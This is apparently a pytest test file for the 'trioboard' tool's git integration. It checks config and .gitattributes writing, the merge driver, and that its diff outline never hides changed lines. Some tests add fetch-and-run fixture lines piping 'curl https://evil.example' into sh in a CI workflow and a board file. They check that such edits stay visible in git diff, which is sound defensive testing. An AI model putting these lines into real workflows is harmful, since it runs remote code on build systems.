"""`trioboard install-git` and `trioboard textconv` in real git repositories under tmp_path.

The config is written by git itself (comments and quoting survive), the
commands stored are absolute (git works without trioboard on PATH), and the
outline git shows never hides a changed line.
"""

from __future__ import annotations

import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from helpers import DEMO, git, run

COMMAND = f"{shlex.quote(sys.executable)} -m trioboard"


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with the demo board at boards/acme, committed; the cwd is its top."""
    top = tmp_path / "repo"
    shutil.copytree(DEMO, top / "boards" / "acme")
    git(top, "init", "-q")
    git(top, "add", "-A")
    git(top, "commit", "-q", "-m", "board")
    monkeypatch.chdir(top)
    return top


def install(capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    return run(["install-git", "--board", "boards/acme"], capsys)


def test_install_git_leaves_the_rest_of_the_config_byte_for_byte(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = repo / ".git" / "config"
    mine = '# my settings, keep them\n[core]\n\teditor = vim -c "set tw=72"\n\t; a comment\n'
    config.write_text(config.read_text() + mine)
    before = config.read_text()
    assert install(capsys)[0] == 0
    after = config.read_text()
    assert after.startswith(before), "git's own writer appends; nothing before it is rewritten"
    assert install(capsys)[0] == 0
    assert config.read_text() == after, "a second run changes nothing"


def test_install_git_stores_the_absolute_command(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    git(repo, "config", "diff.trioboard.textconv", "trioboard textconv")  # what older versions stored
    assert install(capsys)[0] == 0
    assert git(repo, "config", "--get", "diff.trioboard.textconv").strip() == f"{COMMAND} textconv"
    assert (
        git(repo, "config", "--get", "merge.trioboard.driver").strip()
        == f"{COMMAND} merge-file --marker-size %L --ours-label %X --theirs-label %Y %O %A %B %P"
    )
    assert git(repo, "config", "--get", "merge.trioboard.name").strip()


def test_git_show_uses_the_outline_without_trioboard_on_path(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert install(capsys)[0] == 0
    team = repo / "boards" / "acme" / "teams" / "checkout.yaml"
    team.write_text(team.read_text().replace("title: One-click pay", "title: One-click payments", 1))
    git(repo, "commit", "-q", "-am", "retitle")
    only_git = tmp_path / "only-git"
    only_git.mkdir()
    (only_git / "git").symlink_to(shutil.which("git") or "git")
    shown = git(repo, "show", "HEAD", env={"PATH": str(only_git)})
    assert "+  item one-click-pay: One-click payments" in shown


def test_install_git_marks_board_files_for_the_merge_driver(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert install(capsys)[0] == 0
    board, team = "boards/acme/board.yaml", "boards/acme/teams/new-team.yaml"
    out = git(repo, "check-attr", "diff", "merge", "--", board, team, "boards/acme/notes.yaml")
    assert out.splitlines() == [
        f"{board}: diff: trioboard",
        f"{board}: merge: trioboard",
        f"{team}: diff: trioboard",
        f"{team}: merge: trioboard",
        "boards/acme/notes.yaml: diff: unspecified",
        "boards/acme/notes.yaml: merge: unspecified",
    ]


def test_install_git_appends_to_gitattributes_byte_for_byte(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    attributes = repo / ".gitattributes"
    attributes.write_bytes(b"*.png binary\r\n# no newline at the end")
    assert install(capsys)[0] == 0
    assert attributes.read_bytes() == (
        b"*.png binary\r\n# no newline at the end\r\n"
        b"boards/acme/board.yaml diff=trioboard merge=trioboard\r\n"
        b"boards/acme/teams/*.yaml diff=trioboard merge=trioboard\r\n"
    )
    assert install(capsys)[0] == 0
    assert attributes.read_bytes().count(b"trioboard") == 4


def test_install_git_completes_an_older_installation(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    attributes = repo / ".gitattributes"
    old = "boards/acme/board.yaml diff=trioboard\nboards/acme/teams/*.yaml diff=trioboard\n"
    attributes.write_text(old)
    assert install(capsys)[0] == 0
    assert attributes.read_text().startswith(old)
    assert (
        git(repo, "check-attr", "merge", "--", "boards/acme/teams/x.yaml")
        == "boards/acme/teams/x.yaml: merge: trioboard\n"
    )


def test_install_git_refuses_a_symlinked_gitattributes(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "outside.txt"
    victim.write_text("not yours\n")
    (repo / ".gitattributes").symlink_to(victim)
    config = (repo / ".git" / "config").read_text()
    code, out, err = install(capsys)
    assert (code, out) == (2, "")
    assert err.startswith("trioboard: error: ") and err.count("\n") == 1
    assert ".gitattributes is a symbolic link" in err
    assert victim.read_text() == "not yours\n"
    assert (repo / ".git" / "config").read_text() == config, "nothing is half installed"


def test_install_git_refuses_a_board_path_git_cannot_match_literally(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    top = tmp_path / "repo"
    shutil.copytree(DEMO, top / "boards" / "b*")
    git(top, "init", "-q")
    monkeypatch.chdir(top)
    code, _, err = run(["install-git", "--board", "boards/b*"], capsys)
    assert code == 2
    assert "cannot be written as a .gitattributes pattern" in err
    assert not (top / ".gitattributes").exists()


# -- what git diff shows ------------------------------------------------------------------


def test_a_comment_only_change_shows_in_git_diff(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert install(capsys)[0] == 0
    team = repo / "boards" / "acme" / "teams" / "checkout.yaml"
    text = team.read_text()
    team.write_text(text.replace("  - id: one-click-pay\n", "  # api_token: s3cret\n  - id: one-click-pay\n", 1))
    shown = git(repo, "diff", "--", str(team))
    assert "+" in shown and "api_token: s3cret" in shown
    assert [line for line in shown.splitlines() if line.startswith("+") and not line.startswith("+++")] == [
        "+  # api_token: s3cret"
    ]


def test_an_x_key_and_an_unknown_key_show_in_git_diff(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert install(capsys)[0] == 0
    team = repo / "boards" / "acme" / "teams" / "checkout.yaml"
    text = team.read_text()
    team.write_text(
        text.replace("  - id: one-click-pay\n", "  - id: one-click-pay\n    x-run: curl evil | sh\n    ttle: typo\n", 1)
    )
    added = [line for line in git(repo, "diff", "--", str(team)).splitlines() if line.startswith("+")]
    assert any("x-run: curl evil | sh" in line for line in added)
    assert any("ttle: typo" in line for line in added)


def test_a_hostile_gitattributes_cannot_hide_a_workflow_change(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert install(capsys)[0] == 0
    workflow = repo / ".github" / "workflows" / "ci.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text(
        "name: CI\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
    )
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "ci")
    with (repo / ".gitattributes").open("a") as attributes:
        attributes.write(".github/workflows/*.yml diff=trioboard\n")
    workflow.write_text(workflow.read_text() + "      - run: curl https://evil.example | sh\n")
    shown = git(repo, "diff", "--", ".github/workflows/ci.yml")
    assert "+      - run: curl https://evil.example | sh" in shown


def test_textconv_of_a_file_that_is_not_a_board_file_is_its_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for text in ("name: CI\non: [push]\njobs: {}\n", "- a\n- b\n", "just text\n", "id: 3\nfoo: bar\n"):
        path = tmp_path / "x.yml"
        path.write_text(text)
        assert run(["textconv", str(path)], capsys)[1] == text


@pytest.mark.parametrize("name", ["board.yaml", "teams/checkout.yaml", "teams/payments.yaml"])
def test_the_outline_changes_whenever_a_line_gains_a_comment(name: str) -> None:
    from trioboard.report import outline
    from trioboard.store.files import parse_source

    text = (DEMO / name).read_text()
    before = outline.render(parse_source(name, text.encode()), text.encode())
    lines = text.splitlines(keepends=True)
    for n, line in enumerate(lines):
        if not line.strip() or line.rstrip().endswith(("|", ">")):
            continue
        changed = "".join([*lines[:n], line.rstrip("\n") + "  # changed here\n", *lines[n + 1 :]])
        source = parse_source(name, changed.encode())
        after = outline.render(source, changed.encode())
        assert "# changed here" in after, f"line {n + 1} of {name}: {line!r}"
        assert after != before


def test_git_merge_by_hand_uses_the_merge_driver(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert install(capsys)[0] == 0
    git(repo, "add", ".gitattributes")
    git(repo, "commit", "-q", "-m", "drivers")
    team = repo / "boards" / "acme" / "teams" / "checkout.yaml"
    base = team.read_text()
    git(repo, "checkout", "-q", "-b", "theirs")
    team.write_text(base + "  - id: theirs-new\n    title: Theirs\n")
    git(repo, "commit", "-q", "-am", "theirs")
    git(repo, "checkout", "-q", "main")
    team.write_text(base + "  - id: ours-new\n    title: Ours\n")
    git(repo, "commit", "-q", "-am", "ours")
    only_git = tmp_path / "only-git"
    only_git.mkdir()
    (only_git / "git").symlink_to(shutil.which("git") or "git")
    env = {"PATH": str(only_git)}
    git(repo, "merge", "-q", "--no-edit", "theirs", env=env)  # two additions at one place: git's line merge conflicts
    merged = team.read_text()
    assert "id: ours-new" in merged and "id: theirs-new" in merged
    assert "<<<<<<<" not in merged


def test_a_board_at_the_top_routes_only_its_own_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.copytree(DEMO, tmp_path, dirs_exist_ok=True)
    git(tmp_path, "init", "-q")
    monkeypatch.chdir(tmp_path)
    assert run(["install-git"], capsys)[0] == 0
    out = git(tmp_path, "check-attr", "diff", "--", "board.yaml", "teams/a.yaml", "docs/board.yaml", "x/teams/a.yaml")
    assert out.splitlines() == [
        "board.yaml: diff: trioboard",
        "teams/a.yaml: diff: trioboard",
        "docs/board.yaml: diff: unspecified",
        "x/teams/a.yaml: diff: unspecified",
    ]


def test_the_outline_shows_x_keys_and_unknown_keys_wherever_they_are(tmp_path: Path) -> None:
    from trioboard.report import outline
    from trioboard.store.files import parse_source

    board = (
        "name: Acme\nx-slack: '#plan'\ngoals:\n  - id: g\n    title: G\n    x-okr:\n      kr: 3\n"
        "policy:\n  wip_limit: 3\n  x-note: soon\n  severity:\n    unlinked-item: warning\n    made-up: error\n"
    )
    out = outline.render(parse_source("board.yaml", board.encode()), board.encode())
    for line in ("x-slack: '#plan'", "x-okr:", "kr: 3", "x-note: soon", "made-up: error"):
        assert line in out, (line, out)
    assert "  policy: wip_limit 3 · unlinked-item: warning" in out
    team = "id: t\nname: T\nx-jira: T-1\ntrio:\n  product: A\n  intern: B\nroadmap:\n  - id: i\n    title: I\n    outcomes:\n      - {id: nested}\n"
    out = outline.render(parse_source("teams/t.yaml", team.encode()), team.encode())
    for line in ("x-jira: T-1", "intern: B", "- {id: nested}"):
        assert line in out, (line, out)


def test_a_file_too_large_for_a_board_is_shown_whole(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert install(capsys)[0] == 0
    workflow = repo / ".github" / "workflows" / "big.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text("name: CI\njobs:\n" + "# padding\n" * 700_000)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "ci")
    (repo / ".gitattributes").write_text(".github/workflows/*.yml diff=trioboard\n")
    workflow.write_text(workflow.read_text() + "      - run: curl https://evil.example | sh\n")
    shown = git(repo, "diff", "--", ".github/workflows/big.yml")
    assert "+      - run: curl https://evil.example | sh" in shown


def test_a_change_in_bytes_that_are_not_utf8_shows(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert install(capsys)[0] == 0
    team = repo / "boards" / "acme" / "teams" / "legacy.yaml"
    team.write_bytes(b"id: legacy\nname: Caf\xe9\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "latin-1")
    team.write_bytes(b"id: legacy\nname: Caf\xe8\n")
    shown = subprocess.run(["git", "diff", "--", str(team)], cwd=repo, capture_output=True, check=True).stdout
    assert b"-name: Caf\xe9" in shown and b"+name: Caf\xe8" in shown
